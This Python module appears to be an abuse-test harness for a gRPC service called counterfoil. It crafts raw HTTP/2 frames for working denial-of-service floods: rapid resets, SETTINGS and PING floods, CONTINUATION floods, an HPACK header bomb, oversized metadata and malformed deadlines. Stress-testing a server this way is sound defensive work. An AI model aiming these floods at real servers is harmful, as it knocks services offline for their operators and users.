"""Floods: frames of a hostile client that are cheap to send, again and again; see abuses.py."""

from __future__ import annotations

import os
from collections import Counter
from collections.abc import Callable, Iterator
from typing import Final

from counterfoil.v1.record_pb2 import ProofOfTraining
from counterfoil.v1.training_service_pb2 import RecordTrainingRequest

from .frames import (
    END_HEADERS,
    FRAME_SIZE_MAX,
    INITIAL_WINDOW_SIZE,
    Connection,
    Kind,
    block,
    call,
    frame,
    headers,
    literal,
    reset,
    settings,
    window_update,
)

RECORD: Final = "/counterfoil.v1.TrainingService/RecordTraining"
STREAM: Final = "/counterfoil.v1.UsageService/StreamUsage"
# After so many frames of a flood a connection is given up and another one opened.
_PIECES: Final = 50
_DEADLINES: Final = (
    "1n", "1u", "1m", "0S", "00000000S", "99999999H", "999999999999999999S", "-1S", "1x", "S", "", "1 S", "0x1S",
)  # fmt: skip

Seen = Counter[str]


def training(number: int) -> bytes:
    """A request that would be taken."""
    body = ProofOfTraining(
        dataset_id="ds_1",
        creator_id="creator_42",
        model_id="model_xyz",
        artifact_hash="sha256:" + "ab" * 32,
        notes=f"hostile {os.getpid()} {number}",
    )
    return RecordTrainingRequest(submitter="hostile", training=body).SerializeToString()


def _flood(
    address: str,
    piece: Callable[[int], bytes],
    *,
    count: int = 100,
    reading: bool = True,
    greeted: bool = False,
) -> Iterator[Seen]:
    """Send pieces over connections that are replaced when they end, or after a while.

    Args:
        piece: some frames; called with the first of 100 numbers of streams. count: how many abuses are in a piece.
        reading: whether what the server says is taken off the line.
        greeted: whether the server's settings are acknowledged before the first piece.
    """
    while True:
        with Connection(address) as connection:
            if greeted:
                connection.read_until(lambda: connection.seen["SETTINGS"] > 1)
            for number in range(_PIECES):
                sent = connection.send(piece(200 * number + 1), reading=reading)
                yield Counter({"sent": count if sent else 0, "line full": not sent})
                if connection.closed or not sent:
                    break
            yield connection.seen + Counter(
                {"connections": 1, "ended by the server": connection.closed}
            )


def odd(first: int) -> range:
    """A hundred numbers of streams, which are odd for a client."""
    return range(first, first + 200, 2)


def rapid_resets(address: str, _: int) -> Iterator[Seen]:
    """Calls that are cancelled in the packet that begins them."""
    return _flood(
        address, lambda first: b"".join(headers(at, RECORD) + reset(at) for at in odd(first))
    )


def resets_by_the_server(address: str, _: int) -> Iterator[Seen]:
    """Calls with an error that makes the server reset them."""
    return _flood(
        address,
        lambda first: b"".join(headers(at, RECORD) + window_update(at, 0) for at in odd(first)),
    )


def cancels(address: str, _: int) -> Iterator[Seen]:
    """Whole requests, cancelled right behind the last byte."""
    return _flood(
        address,
        lambda first: b"".join(call(at, RECORD, training(at)) + reset(at) for at in odd(first)),
    )


def settings_flood(address: str, _: int) -> Iterator[Seen]:
    """Settings that have to be acknowledged, while nobody reads."""
    piece = b"".join(settings((INITIAL_WINDOW_SIZE, 65_535 + at)) for at in range(100))
    return _flood(address, lambda _: piece, reading=False)


def settings_flood_read(address: str, _: int) -> Iterator[Seen]:
    """The same by a client that takes the acknowledgements."""
    piece = b"".join(settings((INITIAL_WINDOW_SIZE, 65_535 + at)) for at in range(100))
    return _flood(address, lambda _: piece)


def ping_flood(address: str, _: int) -> Iterator[Seen]:
    """Pings that have to be answered, while nobody reads."""
    return _flood(address, lambda _: 100 * frame(Kind.PING, 0, bytes(8)), reading=False)


def ping_flood_read(address: str, _: int) -> Iterator[Seen]:
    """The same by a client that takes the answers."""
    return _flood(address, lambda _: 100 * frame(Kind.PING, 0, bytes(8)))


def idle_frames(address: str, _: int) -> Iterator[Seen]:
    """Frames that mean nothing: empty data, priorities, windows, and kinds that nobody knows."""

    def piece(first: int) -> bytes:
        begin = headers(first, STREAM)
        nothing = (
            frame(Kind.DATA, first)
            + frame(Kind.PRIORITY, first, bytes(5))
            + window_update(first, 1)
            + frame(Kind.UNKNOWN, first, bytes(64))
        )
        return begin + 25 * nothing

    return _flood(address, piece)


def continuation_flood(address: str, _: int) -> Iterator[Seen]:
    """Headers that never come to their end."""
    filler = (literal("x-filler", "a" * 1000) * 16)[:FRAME_SIZE_MAX]

    def piece(first: int) -> bytes:
        begin = frame(Kind.HEADERS, 1, block(RECORD)) if first == 1 else b""
        return begin + 100 * frame(Kind.CONTINUATION, 1, filler)

    return _flood(address, piece)


def header_bomb(address: str, _: int) -> Iterator[Seen]:
    """Headers of 60 MiB in a frame of 16 KiB: one of 4,000 bytes, named 15,000 times by its place in the table."""
    return _flood(address, _bomb, count=1, greeted=True)


def header_bomb_at_once(address: str, _: int) -> Iterator[Seen]:
    """The same by a client that does not wait for the server's settings, and so knows of no bound."""
    return _flood(address, _bomb, count=1)


def _bomb(first: int) -> bytes:
    planted = literal("x", "a" * 4000, remembered=True)
    begin = frame(Kind.HEADERS, first, block(RECORD) + planted, END_HEADERS)
    return begin + frame(Kind.HEADERS, first + 2, block(RECORD) + b"\xbe" * 15_000, END_HEADERS)


def huge_metadata(address: str, _: int) -> Iterator[Seen]:
    """Metadata of 64 KiB with each call."""
    extra = [(f"x-{at}", "a" * 1000) for at in range(64)]
    return _flood(
        address,
        lambda first: b"".join(headers(at, RECORD, extra) for at in odd(first)[:10]),
        count=10,
    )


def deadlines(address: str, _: int) -> Iterator[Seen]:
    """Deadlines that have passed, that never come, and that are none."""

    def piece(first: int) -> bytes:
        told = [_DEADLINES[at // 2 % len(_DEADLINES)] for at in odd(first)]
        return b"".join(
            call(at, RECORD, training(at), [("grpc-timeout", text)])
            for at, text in zip(odd(first), told, strict=True)
        )

    return _flood(address, piece)
